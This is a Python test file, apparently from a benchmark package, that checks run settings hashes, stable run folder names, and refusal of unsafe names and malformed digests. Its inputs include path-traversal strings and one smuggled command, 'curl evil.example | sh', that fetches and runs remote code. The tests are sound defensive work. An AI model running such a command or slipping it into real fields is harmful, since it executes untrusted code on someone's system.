"""What identifies a run: the settings hash and the name of its folder."""

import dataclasses

import pytest

from dp_bench.errors import BadInput
from dp_bench.evaluation import records
from dp_bench.reports.results_folder import collect
from dp_bench.runs.info import NAMES, RunIdentity
from made_up import run_info, written_run
from made_up_records import episodes, with_digests

INFO = run_info(
    split_digest="s" * 12, preset="custom", training={"updates": 3, "precision": "auto"}
)


@pytest.mark.parametrize(
    "change",
    [
        {"training": INFO.training | {"updates": 4}},
        {"training": INFO.training | {"precision": "bfloat16"}},
        {"policy": {"channels": [8, 32]}},
        {"policy": INFO.policy | {"obs_scale": 5.0}},
        {"control": "velocity"},
        {"demos_source": "other"},
        {"padded_episodes": 3},  # an older run left these episodes out
    ],
)
def test_the_settings_hash_changes_with_what_can_move_a_number(change):
    assert dataclasses.replace(INFO, **change).settings != INFO.settings


@pytest.mark.parametrize(
    "change",
    [
        {"train_seed": 1},
        {"preset": "laptop"},
        {"training": INFO.training | {"save_seconds": 1.0, "log_every": 2}},
        # "auto" stood for float32 in the runs that say "auto"
        {"training": INFO.training | {"precision": "float32"}},
        # runs from before these settings existed do not have them
        {"policy": INFO.policy | {"obs_scale": 1.0, "obs_min_range": 1e-4}},
        {"policy": INFO.policy | {"older_obs_noise": 0.0, "obs_dropout": 0.0}},
        {"policy": INFO.policy | {"hidden_obs": [], "past_samples": 1}},
        {"training": INFO.training | {"keyframe_weight": 0.0}},
    ],
)
def test_the_settings_hash_ignores_what_cannot_move_a_number(change):
    assert dataclasses.replace(INFO, **change).settings == INFO.settings


def test_the_settings_hash_does_not_count_padded_episodes():
    """Other data have another digest; settings that are the same have one hash."""
    one, other = (dataclasses.replace(INFO, padded_episodes=n) for n in (1, 2))
    assert one.settings == other.settings


def test_seeds_and_data_have_folders_of_their_own():
    names = {
        dataclasses.replace(INFO, **change).name
        for change in ({}, {"train_seed": 1}, {"demos_digest": "e" * 64})
    }
    assert len(names) == 3


def test_the_name_of_a_run_never_changes():
    """Names of runs are in folders and records that people keep."""
    assert INFO.name == "dp_c-72c1c389-f1c5-seed0"


def test_the_identity_agrees_with_the_info():
    identity = INFO.identity
    for field in dataclasses.fields(RunIdentity):
        assert getattr(identity, field.name) == getattr(INFO, field.name)
    assert identity != dataclasses.replace(INFO, train_seed=1).identity


ELSEWHERE = (
    "../../..",
    "/tmp/x",
    "",
    ".hidden",
    "a/b",
    "a\\b",
    "a\nb",
    "<b>",
    "x\x1b[2J",
)


@pytest.mark.parametrize("name", ELSEWHERE)
@pytest.mark.parametrize("field", NAMES)
def test_a_name_that_could_lead_elsewhere_is_refused(tmp_path, field, name):
    run = written_run(tmp_path / "runs" / "run")
    run.records.write_text("{}\n")
    run.write_info(dataclasses.replace(run.info(), **{field: name}))
    before = sorted(tmp_path.rglob("*"))
    for use in (run.info, lambda: collect([run.path], tmp_path / "results")):
        with pytest.raises(BadInput, match=rf"run.json: {field} .* is not a name: use"):
            use()
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("demos_digest", "\ncurl evil.example | sh #"),
        ("demos_digest", "d" * 63),
        ("demos_digest", "D" * 64),
        ("demos_digest", ""),
        ("split_digest", "x" * 12),
        ("split_digest", "1" * 12 + "\n"),
        ("order_digest", "1" * 64),
    ],
)
def test_a_digest_is_hex_of_its_length(tmp_path, field, value):
    run = written_run(tmp_path / "run")
    run.write_info(dataclasses.replace(run.info(), **{field: value}))
    with pytest.raises(
        BadInput, match=rf"{field} .* is not a digest, which is \d+ hex"
    ):
        run.info()


@pytest.mark.parametrize(
    ("field", "value"),
    [("task", "../.."), ("method", "a|b"), ("settings", "s1"), ("demos_digest", "d1")],
)
def test_records_with_such_a_name_or_digest_are_refused(tmp_path, field, value):
    good = with_digests(episodes())
    records.append(tmp_path / "good.jsonl", good)
    assert records.read(tmp_path / "good.jsonl") == good
    file = tmp_path / "bad.jsonl"
    records.append(file, [dataclasses.replace(good[0], **{field: value})])
    with pytest.raises(BadInput, match=rf"{file}: {field} "):
        records.read(file)
